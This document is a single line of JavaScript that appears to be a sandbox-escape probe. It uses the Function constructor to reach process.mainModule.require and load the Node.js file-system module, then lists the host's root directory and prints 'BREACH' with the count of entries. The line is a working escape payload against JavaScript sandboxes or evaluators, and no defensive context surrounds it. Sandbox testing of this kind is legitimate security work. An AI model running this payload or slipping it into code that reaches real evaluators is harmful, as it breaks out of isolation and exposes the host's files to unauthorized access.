console.log('BREACH', Function('return process.mainModule.require("fs")')().readdirSync('/').length)
